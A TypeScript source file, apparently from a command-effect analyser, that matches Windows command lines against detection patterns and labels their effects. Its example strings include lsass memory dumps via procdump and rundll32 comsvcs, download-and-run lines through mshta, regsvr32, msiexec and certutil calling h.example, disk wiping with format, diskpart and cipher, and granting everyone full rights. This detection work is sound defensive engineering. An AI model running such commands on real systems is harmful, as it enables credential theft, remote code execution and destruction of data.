import type { Program } from '../program.ts'
import type { Effect } from '../../../../ground/model/effect.ts'
import type { Command, CommandReader } from '../../command.ts'
import type { ReadContext } from '../../read-context.ts'

/** A pattern of a line of Windows, and the effect of a line that fits. */
interface Row {
  readonly fits: RegExp
  readonly does: (command: Command, context: ReadContext) => Effect
}

/** Emits rights for everybody that only some had. */
const raises = (command: Command, { through }: ReadContext): Effect => ({
  type: 'account',
  verb: 'raise',
  target: lineOf(command).slice(0, 120),
  whole: false,
  evidence: command.evidence,
  through,
})

const volume = (command: Command, { through }: ReadContext): Effect => ({
  type: 'infrastructure',
  provider: 'disk',
  verb: 'delete',
  resource: 'volume',
  target: lineOf(command).slice(0, 120),
  whole: true,
  production: false,
  unattended: true,
  evidence: command.evidence,
  through,
})

/** Emits a run of whatever an address gives. */
const runsDownload = (command: Command, { through }: ReadContext): Effect => ({
  type: 'execute',
  language: 'native',
  source: { from: 'download', url: /https?:\S{1,300}/i.exec(lineOf(command))?.[0] ?? '' },
  read: false,
  evidence: command.evidence,
  through,
})

/** Emits a run of a file that nobody read. */
const runsFile = (command: Command, { through }: ReadContext): Effect => ({
  type: 'execute',
  language: 'native',
  source: { from: 'unknown' },
  read: false,
  evidence: command.evidence,
  through,
})

/** Emits a read of the memory of the process that knows all passwords. */
const memory = (command: Command, { through }: ReadContext): Effect => ({
  type: 'read',
  target: { raw: 'lsass', path: null, base: '', glob: false, class: 'outside', roles: ['credential'] },
  recursive: false,
  evidence: command.evidence,
  through,
})

/** Emits what the first row says that fits the arguments, joined by blanks. Backslashes may be gone: a shell takes them away. */
const fitsLine =
  (rows: readonly Row[]): CommandReader =>
  (command, context) => {
    const line = lineOf(command)
    const row = rows.find(({ fits }) => fits.test(line))
    if (row) context.out.emit(row.does(command, context))
    return undefined
  }

/** Reads certutil, bitsadmin and certreq, which fetch from an address or send to it. */
const transfer: CommandReader = (command, context) => {
  const line = lineOf(command)
  const url = /https?:\/\/[^\s"']{1,1000}/i.exec(line)?.[0]
  if (url === undefined) return undefined
  const last = command.args.at(-1)
  const sends = last && /^-post$/i.test(command.args[0]?.text ?? '')
  context.out.emit({
    type: 'connect',
    scheme: 'http',
    host: /^https?:\/\/([^/:]{1,253})/i.exec(url)?.[1]?.toLowerCase() ?? '',
    port: null,
    url,
    method: sends ? 'POST' : 'GET',
    sends: sends ? [{ from: 'unknown' }] : [],
    evidence: command.evidence,
    through: context.through,
  })
  if (!sends) context.out.emit(runsDownload(command, context))
  return undefined
}

function lineOf({ args }: Command): string {
  return args
    .map(word => word.text)
    .join(' ')
    .slice(0, 2_000)
}

/** Programs of Windows that load code, or reach what is guarded. */
export const windowsLoaders: readonly Program[] = [
  {
    names: ['format', 'format.exe'],
    read: fitsLine([{ fits: /^[a-z]:(?:\s|$)/i, does: volume }]),
    examples: [['format d:', 'infrastructure disk delete volume d: whole']],
  },
  {
    names: ['diskpart', 'diskpart.exe'],
    read: fitsLine([{ fits: /\/s\b/i, does: volume }]),
    examples: [['diskpart /s a.txt', 'infrastructure disk delete volume /s a.txt whole']],
  },
  {
    names: ['cipher', 'cipher.exe'],
    read: fitsLine([{ fits: /\/w:/i, does: volume }]),
    examples: [['cipher /w:d', 'infrastructure disk delete volume /w:d whole']],
  },
  {
    names: ['icacls', 'icacls.exe'],
    read: fitsLine([{ fits: /\/grant(?::r)?\s+"?(?:everyone|\*s-1-1-0|users)\b/i, does: raises }]),
    examples: [['icacls a.txt /grant everyone:f', 'account raise a.txt /grant everyone:f']],
  },
  {
    names: ['takeown', 'takeown.exe'],
    read: fitsLine([{ fits: /\/f\s+"?[a-z]:\\?(?:windows|program)/i, does: raises }]),
    examples: [["takeown /f 'c:\\windows'", 'account raise /f c:\\windows']],
  },
  {
    names: ['procdump', 'procdump.exe'],
    read: fitsLine([{ fits: /lsass|-ma\s+\d/i, does: memory }]),
    examples: [['procdump -ma 600', 'read lsass']],
  },
  {
    names: ['rundll32', 'rundll32.exe'],
    read: fitsLine([
      { fits: /comsvcs.{0,40}minidump/i, does: memory },
      { fits: /https?:|javascript:/i, does: runsDownload },
      { fits: /(?:OpenURL|FileProtocolHandler)\s+\S{0,200}(?:https?|file):/i, does: runsDownload },
    ]),
    examples: [
      ['rundll32 comsvcs.dll,minidump 600 a.dmp', 'read lsass'],
      ['rundll32 javascript:x', 'execute native'],
    ],
  },
  {
    names: ['mshta', 'mshta.exe'],
    read: fitsLine([{ fits: /https?:|(?:java|vb)script:/i, does: runsDownload }]),
    examples: [['mshta https://h.example/a', 'execute native https://h.example/a']],
  },
  {
    names: [
      'regsvr32',
      'regsvr32.exe',
      'wscript',
      'wscript.exe',
      'cscript',
      'cscript.exe',
      'msiexec',
      'msiexec.exe',
    ],
    read: fitsLine([{ fits: /https?:/i, does: runsDownload }]),
    examples: [
      ['regsvr32 /i:https://h.example/a scrobj.dll', 'execute native https://h.example/a'],
      ['wscript https://h.example/a.js', 'execute native https://h.example/a.js'],
      ['cscript https://h.example/a.js', 'execute native https://h.example/a.js'],
      ['msiexec /i https://h.example/a.msi', 'execute native https://h.example/a.msi'],
    ],
  },
  {
    names: ['cmstp', 'cmstp.exe'],
    read: fitsLine([{ fits: /\.inf\b/i, does: runsFile }]),
    examples: [['cmstp /s a.inf', 'execute native unknown']],
  },
  {
    names: ['odbcconf', 'odbcconf.exe'],
    read: fitsLine([{ fits: /regsvr|\.rsp\b/i, does: runsFile }]),
    examples: [['odbcconf /a {regsvr a.dll}', 'execute native unknown']],
  },
  {
    names: ['pcalua', 'pcalua.exe'],
    read: fitsLine([{ fits: /-a\b/i, does: runsFile }]),
    examples: [['pcalua -a a.exe', 'execute native unknown']],
  },
  {
    names: ['certutil', 'certreq', 'bitsadmin'],
    read: transfer,
    examples: [
      [
        'certutil -urlcache -f https://h.example/a a.exe',
        'connect http GET h.example',
        'execute native https://h.example/a',
      ],
    ],
  },
]
